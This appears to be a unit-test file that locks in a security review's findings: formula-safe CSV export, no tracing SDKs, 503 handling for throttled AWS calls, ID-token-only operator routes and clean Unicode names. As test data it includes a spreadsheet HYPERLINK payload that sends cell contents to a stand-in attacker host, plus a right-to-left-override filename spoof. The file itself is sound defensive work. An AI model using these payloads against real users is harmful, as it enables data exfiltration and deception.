/** Findings of the security review that unit tests can pin down: spreadsheet-safe CSV, traces without payloads. */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import { csvCell } from '../../functions/settlement/views.js';

describe('settlement CSV cells are never formulas', () => {
  it('text starting with = + - @, tab, CR or their full-width forms is prefixed with an apostrophe and quoted', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A2,"查看")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""查看"")"`);
    for (const start of ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']) expect(csvCell(`${start}1+1`)).toBe(`"'${start}1+1"`);
    expect(csvCell('城步合作社')).toBe('城步合作社');
    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
    expect(csvCell(-1234)).toBe('-1234'); // numbers are numbers
  });

  it('for any text: the cell read back by a CSV reader is the text, and never starts a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (text) => {
        const cell = csvCell(text);
        const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
        expect(/^[=+\-@\t\r＝＋－＠]/.test(unquoted)).toBe(false);
        expect(unquoted === text || unquoted === `'${text}`).toBe(true);
      }),
    );
  });
});

describe('traces', () => {
  it('no function code writes to a trace: Lambda records its own segments, which carry no events, responses or secrets', () => {
    // stream keys, API keys, payment secrets and buyer references pass through the handlers; a
    // tracing SDK in the function would record responses and AWS calls as trace metadata
    const root = join(import.meta.dirname, '..', '..', 'functions');
    const sources = readdirSync(root, { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.ts'));
    expect(sources.length).toBeGreaterThan(50);
    for (const file of sources) {
      expect(readFileSync(join(root, file), 'utf8'), file).not.toMatch(/@aws-lambda-powertools\/tracer|aws-xray-sdk|captureAWSv3Client|captureLambdaHandler/);
    }
  });
});

describe('the HTTP edge', () => {
  it("a busy or failing AWS service is 503 SERVICE_UNAVAILABLE with Retry-After, not 500; a bug stays 500", async () => {
    vi.resetModules();
    const { httpHandler } = await import('../../functions/shared/http.js');
    const { ProvisionedThroughputExceededException, InternalServerError } = await import('@aws-sdk/client-dynamodb');
    const failing = (error: Error) => httpHandler(async () => { throw error; });
    const event = { requestContext: { requestId: 'r' }, headers: {} } as any;
    const context = { getRemainingTimeInMillis: () => 1000 } as any;
    for (const error of [new ProvisionedThroughputExceededException({ message: 'slow down', $metadata: {} }), new InternalServerError({ message: 'oops', $metadata: {} })]) {
      const res = await failing(error)(event, context);
      expect(res.statusCode).toBe(503);
      expect(res.headers).toMatchObject({ 'retry-after': '1' });
      expect(JSON.parse(res.body).error.code).toBe('SERVICE_UNAVAILABLE');
    }
    const bug = await failing(new TypeError('undefined is not a function'))(event, context);
    expect(bug.statusCode).toBe(500);
  });

  it('an operator route takes an ID token only: an access token of the same pool is refused', async () => {
    const { operatorOf } = await import('../../functions/shared/http.js');
    const claims = (token_use: string) => ({ requestContext: { authorizer: { jwt: { claims: { sub: 's', token_use, 'custom:county': 'chengbu' } } } } }) as any;
    expect(operatorOf(claims('id'))).toMatchObject({ subject: 's', countyId: 'chengbu' });
    expect(() => operatorOf(claims('access'))).toThrow(expect.objectContaining({ code: 'UNAUTHENTICATED', field: 'authorization' }));
  });
});

describe('names', () => {
  it('refuse lone surrogates, bidi controls and zero-width characters, naming the field', async () => {
    const { CreateSellerBody } = await import('../../functions/contracts/api.js');
    const seller = (name: string) => CreateSellerBody.safeParse({ countyId: 'chengbu', name, kind: 'farmer' });
    expect(seller('杨家腊肉 The Yang family').success).toBe(true);
    expect(seller('Family 👪 farm').success).toBe(true); // a real emoji is a surrogate pair: fine
    for (const bad of ['abc\uD800', '\uDC00abc', 'evil\u202Egnp.exe', 'a\u2066b\u2069', 'zero\u200Bwidth', 'b\uFEFFom', 'join\u200Der']) {
      const result = seller(bad);
      expect(result.success, JSON.stringify(bad)).toBe(false);
      expect(result.error!.issues[0]!.path).toEqual(['name']);
    }
  });
});
